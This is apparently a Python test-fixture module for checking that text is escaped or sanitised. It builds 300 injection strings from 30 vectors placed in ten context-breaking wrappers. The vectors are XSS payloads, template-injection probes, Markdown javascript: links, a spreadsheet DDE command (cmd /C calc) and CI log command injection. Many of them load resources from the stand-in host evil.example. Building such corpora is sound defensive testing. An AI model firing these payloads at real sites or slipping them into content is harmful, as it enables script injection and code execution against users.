"""Three hundred texts that want to be more than text: markup, scripts, styles, template syntax, Markdown, formulas, commands.

In: nothing. Out: texts without the characters that reading refuses anyway. Each one that runs says so by setting `window.taken`, by a dialog or by
asking another host.
"""

from collections.abc import Iterator

RUNS = "window.taken=1"
VECTORS = (
    f"<script>{RUNS}</script>",
    f"<script src=//evil.example/x.js></script><ScRiPt>{RUNS}</sCrIpT>",
    f"<img src=x onerror={RUNS}>",
    f"<svg onload={RUNS}><animate onbegin={RUNS} attributeName=x dur=1s></svg>",
    f"<svg><script>{RUNS}</script><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'/></svg>",
    "<iframe src=//evil.example></iframe><iframe srcdoc='<script>parent.taken=1</script>'></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css><link rel=prefetch href=//evil.example/y>",
    "<style>@import '//evil.example/x.css';body{background:url(//evil.example/z)}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example/>",
    f"<a href=javascript:{RUNS}>x</a><a href='java&#10;script:{RUNS}'>y</a>",
    f"<form action=//evil.example><input autofocus onfocus={RUNS}><button formaction=javascript:{RUNS}>x</form>",
    f"<details open ontoggle={RUNS}><summary>x</summary></details>",
    f"<video src=//evil.example/x onloadstart={RUNS}></video><audio src=//evil.example/x autoplay>",
    f"<body onload={RUNS}><marquee onstart={RUNS}>x</marquee>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUNS}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUNS}>'>",
    "<template><script>window.taken=1</script></template><slot name=x></slot>",
    f"' onmouseover={RUNS} autofocus onfocus={RUNS} x='",
    f'" onmouseover={RUNS} autofocus onfocus={RUNS} style="background:url(//evil.example)" x="',
    f"` onerror={RUNS} x=`",
    "[x](javascript:window.taken=1) ![x](//evil.example/x.png) <javascript:window.taken=1>",
    "[x](data:text/html,<script>window.taken=1</script>) [x]: //evil.example\n\n![y][x]",
    "![x](https://evil.example/x.png 'onload=window.taken=1') [y](vbscript:x)",
    "{{ 7*7 }} {% raw %} {{ page.frame.__class__.__mro__ }} {# x #} ${7*7} #{7*7} <%= 7*7 %> __proto__ constructor",
    "%(number)s %s %n {0} {number.__class__} \\u003cscript\\u003e \\x3cscript\\x3e &lt;script&gt;",
    "&#60;script&#62;window.taken=1&#60;/script&#62; &lt;img src=x onerror=window.taken=1&gt; &amp;lt;b&amp;gt;",
    '=HYPERLINK("//evil.example","x") +cmd|\' /C calc\'!A0 @SUM(1) -2+3',
    "::error file=x::taken\n::set-output name=x::y %0A::warning::z <!-- x --> ```\n# taken\n```",
    "BEGIN:VEVENT\nATTACH:http://evil.example\nEND:VEVENT;x,y\\n",
)
AROUND = (
    ("", ""),
    ('">', '<x y="'),
    ("'>", "<x y='"),
    ("</script>", "<script>"),
    ("</title></textarea></style></noscript></template>", "<title>"),
    ("-->", "<!--"),
    ("]]>", "<![CDATA["),
    ("</summary></content></description>", "<?xml version='1.0'?>"),
    ("\\", "\\"),
    ("*/;//", "/*"),
)
"""What ends the place that a text stands in, and what begins another: ten of each vector."""


def payloads() -> Iterator[str]:
    """Give every vector in every wrapping: three hundred texts."""
    return (f"{before}{vector}{after}" for before, after in AROUND for vector in VECTORS)
